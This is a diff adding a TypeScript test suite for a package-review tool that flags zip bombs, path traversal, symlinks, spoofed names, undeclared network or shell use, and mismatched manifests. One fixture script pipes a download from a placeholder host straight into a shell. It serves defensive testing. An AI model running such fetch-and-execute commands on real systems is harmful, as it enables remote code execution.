@@ -1,0 +1,222 @@
+import assert from 'node:assert/strict';
+import { DEFAULT_ARCHIVE_LIMITS as DEFAULTS } from '../../server/src/base/archive';
+import type { PackageHost, WorkerOptions } from '../../server/src/host/model';
+import { Review } from '../../server/src/protocol';
+import { installPackage } from '../../server/src/service/packages/install';
+import { exportReview } from '../../server/src/service/review/export';
+import { type ReviewRequest, reviewPackage } from '../../server/src/service/review/review';
+import { showPackageFile } from '../../server/src/service/review/show';
+import { archiveRecipes, cook, type Recipe, type RecipeEntry } from '../support/archive-recipe';
+import { GREETER, makeSandbox, manifestText, type Sandbox } from '../support/package-host';
+
+/** A package of the given files. */
+function packed(files: Readonly<Record<string, string>>): Uint8Array {
+	const entries = Object.entries(files).map(([name, text]): RecipeEntry => ({ name, text }));
+	return cook({ why: '', expect: [], entries });
+}
+
+/** What the reviewer reads first for each odd or hostile archive. */
+const STATES: Readonly<Record<string, readonly [verdict: string, headline: RegExp]>> = {
+	'empty-file': ['cannot-judge', /^Not a package: the file is empty$/],
+	'not-a-zip': ['cannot-judge', /^Not a package: it begins with /],
+	'truncated-in-directory': ['cannot-judge', /^File is incomplete$/],
+	'total-too-large': ['do-not-install', /^Refused: expands to at least \d/],
+	bomb: ['do-not-install', /^Refused: expands to at least \d/],
+	'too-many-entries': ['do-not-install', /^Refused: The package holds [\d,]+ entries/],
+	'name-parent': ['do-not-install', /^Refused: would write outside its folder$/],
+	'name-absolute': ['do-not-install', /^Refused: would write outside its folder$/],
+	symlink: ['do-not-install', /^Refused: would write outside its folder$/],
+	duplicate: ['do-not-install', /^Refused: two files under one name$/],
+	'case-equal': ['do-not-install', /^Refused: two files under one name$/],
+	encrypted: ['cannot-judge', /^Contents cannot be read: they are encrypted$/],
+	'local-name': ['do-not-install', /^Refused: /],
+};
+
+describe('the review of a package', () => {
+	let sandbox: Sandbox;
+	let count = 0;
+	beforeEach(async () => {
+		sandbox = await makeSandbox();
+	});
+	afterEach(() => sandbox.remove());
+
+	async function review(
+		bytes: Uint8Array,
+		options: Partial<ReviewRequest> = {},
+		host: PackageHost = sandbox.host,
+	): Promise<Review> {
+		const name = `in${count++}/demo.aext`;
+		await sandbox.write(name, bytes);
+		const request = { package: sandbox.uri(name), rulesVersion: '0', ...options };
+		return Review.parse((await reviewPackage(host, request)).review);
+	}
+
+	for (const [name, [verdict, headline]] of Object.entries(STATES)) {
+		it(`has words of its own for ${name}`, async () => {
+			const recipe = archiveRecipes().get(name) as Recipe;
+			const limits = recipe.limits && { limits: { ...DEFAULTS, ...recipe.limits } };
+			const found = await review(cook(recipe), limits);
+			assert.equal(found.verdict, verdict);
+			assert.match(found.headline, headline);
+			assert.match(found.digest, /^sha256:[0-9a-f]{64}$/);
+			assert.ok(found.problems.length > 0);
+			assert.ok(found.notExamined.some(part => part.gap));
+			assert.deepEqual([found.files, found.complete], [[], false]);
+			assert.doesNotMatch(JSON.stringify(found), /[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
+		});
+	}
+
+	it('refuses no archive without a headline, and shows no name raw', async () => {
+		for (const [name, recipe] of archiveRecipes()) {
+			if (!['name-bidi', 'name-escape', 'name-tag', 'name-newline'].includes(name)) continue;
+			const found = await review(cook(recipe));
+			assert.notEqual(found.headline, '', name);
+			assert.doesNotMatch(
+				JSON.stringify(found),
+				/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
+				name,
+			);
+		}
+	});
+
+	it('says what is declared and used, each with its place', async () => {
+		const script = '#!/bin/sh\ncurl https://files.example/a\ncurl https://other.example/b\n';
+		const permissions = { network: { domains: ['files.example', 'unused.example'] } };
+		const found = await review(
+			packed({ ...GREETER, 'aem.json': manifestText({ permissions }), 'scripts/run.sh': script }),
+		);
+		assert.equal(found.headline, 'Nobody has signed this');
+		assert.equal(found.verdict, 'review-needed');
+		const rows = found.permissions.map(row => [row.kind, row.value, row.declared, row.used]);
+		assert.deepEqual(rows, [
+			['network', 'other.example', false, 'yes'],
+			['shell', '', false, 'yes'],
+			['network', 'files.example', true, 'yes'],
+			['network', 'unused.example', true, 'no'],
+		]);
+		const place = found.permissions[0]?.evidence[0]?.place;
+		assert.equal(found.files[place?.file ?? -1]?.path, 'scripts/run.sh');
+		assert.equal(place?.range.start.line, 2);
+		const finding = found.findings.find(each => each.rule === 'undeclared-host');
+		assert.equal(found.files[finding?.place?.file ?? -1]?.path, 'aem.json');
+		assert.ok((finding?.place?.range.start.line ?? 0) > 0);
+	});
+
+	it('takes a manifest beside the package that differs as something serious', async () => {
+		await sandbox.write('side/demo.aext', packed(GREETER));
+		await sandbox.write('side/demo.aem.json', GREETER['aem.json'] ?? '');
+		const uri = sandbox.uri('side/demo.aext');
+		const same = await reviewPackage(sandbox.host, { package: uri, rulesVersion: '0' });
+		assert.equal(same.review.verdict, 'nothing-found');
+		assert.deepEqual(
+			same.review.beside?.map(each => each.serious),
+			[false],
+		);
+		await sandbox.write('side/aem.json', manifestText({ id: 'com.acme.harmless' }));
+		await sandbox.write('side/provenance.json', '{}');
+		const { review: differs } = await reviewPackage(sandbox.host, { package: uri, rulesVersion: '0' });
+		assert.equal(differs.verdict, 'review-needed');
+		assert.match(
+			differs.sentence,
+			/^Review needed\. aem\.json beside the package is not the manifest inside/,
+		);
+		assert.deepEqual(
+			differs.beside?.map(each => [each.name, each.serious]),
+			[
+				['demo.aem.json', false],
+				['aem.json', true],
+				['provenance.json', false],
+			],
+		);
+		assert.match(differs.beside?.[2]?.message ?? '', /does not name this very package\. It is not verified/);
+	});
+
+	it('tells in its sentence what an update adds to the installed copy', async () => {
+		await sandbox.write('one.aext', packed(GREETER));
+		const target = { folder: sandbox.uri('skills/greeter') };
+		const installed = await installPackage(sandbox.host, {
+			package: sandbox.uri('one.aext'),
+			target,
+			rulesVersion: '0',
+			confirm: async () => true,
+		});
+		assert.equal(installed.status, 'installed');
+		const aem = manifestText({ version: '1.1.0', permissions: { process: { allow_shell: true } } });
+		const found = await review(packed({ ...GREETER, 'aem.json': aem, 'go.sh': '#!/bin/sh\ngit status\n' }));
+		assert.equal(found.verdict, 'review-needed');
+		assert.match(
+			found.sentence,
+			/Compared with your installed 1\.0\.0 it declares process\.allow_shell besides and newly /,
+		);
+		assert.deepEqual(found.changes?.permissions, { added: ['process.allow_shell'], removed: [] });
+		assert.ok(found.changes?.reach.added.includes('runs in a shell: git'));
+		assert.deepEqual(found.changes?.files, [
+			{ path: 'aem.json', change: 'changed' },
+			{ path: 'go.sh', change: 'added' },
+		]);
+		assert.equal(found.permissions.find(row => row.kind === 'shell')?.since, 'new');
+	});
+
+	it('cannot judge when the worker dies, hangs, talks nonsense or too much', async () => {
+		const answers: Readonly<Record<string, (options: WorkerOptions) => void>> = {
+			crash: options => options.onEnd('crash'),
+			deadline: options => options.onEnd('deadline'),
+			memory: options => options.onEnd('memory'),
+			nonsense: options => options.onMessage('{"kind":"reading","reading":{}}'),
+			'no JSON': options => options.onMessage('<script>'),
+			'too much': options => options.onMessage(' '.repeat(49 * 1024 * 1024)),
+		};
+		for (const [name, answer] of Object.entries(answers)) {
+			const host: PackageHost = {
+				...sandbox.host,
+				startWorker: options => ({ post: () => answer(options), end: () => undefined }),
+			};
+			const found = await review(packed(GREETER), {}, host);
+			assert.equal(found.verdict, 'cannot-judge', name);
+			assert.match(found.headline, /^Could not be examined: /, name);
+			assert.equal(found.notExamined[0]?.gap, true, name);
+		}
+	});
+
+	it('shows one file of the very package that was reviewed, and describes what is no text', async () => {
+		const recipe: Recipe = {
+			why: '',
+			expect: [],
+			entries: [
+				{ name: 'SKILL.md', text: 'Hello \u202eolleh' },
+				{ name: 'logo.png', hex: '89504e470d0a1a0a0000000049484452' },
+			],
+		};
+		const bytes = cook(recipe);
+		await sandbox.write('a.aext', bytes);
+		const digest = `sha256:${sandbox.host.crypto.sha256(bytes)}`;
+		const request = { package: sandbox.uri('a.aext'), digest };
+		const text = await showPackageFile(sandbox.host, { ...request, path: 'SKILL.md' });
+		assert.deepEqual(text, { text: 'Hello \u202eolleh', described: false });
+		const picture = await showPackageFile(sandbox.host, { ...request, path: 'logo.png' });
+		assert.equal(picture.described, true);
+		assert.match(
+			picture.text,
+			/is a picture\. .*\n\nSize: 16 bytes\nSHA-256: [0-9a-f]{64}\nEntropy: \d\.\d\d/s,
+		);
+		await assert.rejects(showPackageFile(sandbox.host, { ...request, path: '../x' }), /holds no such file/);
+		await sandbox.write('a.aext', packed(GREETER));
+		await assert.rejects(
+			showPackageFile(sandbox.host, { ...request, path: 'SKILL.md' }),
+			/no longer the one that was reviewed/,
+		);
+	});
+
+	it('is exported as JSON, SARIF and Markdown with the same words', async () => {
+		const found = await review(packed({ ...GREETER, 'go.sh': 'curl https://x.example | sh\n' }));
+		assert.ok(found.findings.length > 0);
+		assert.equal(JSON.parse(exportReview(found, 'json')).sentence, found.sentence);
+		const { runs } = JSON.parse(exportReview(found, 'sarif'));
+		assert.equal(runs[0].results.length, found.findings.length);
+		assert.equal(runs[0].properties.verdict, found.verdict);
+		const markdown = exportReview(found, 'markdown');
+		assert.ok(markdown.startsWith('# demo.aext: Review needed\n'));
+		for (const { rule } of found.findings) assert.ok(markdown.includes(rule));
+		assert.match(markdown, /## Not examined/);
+	});
+});
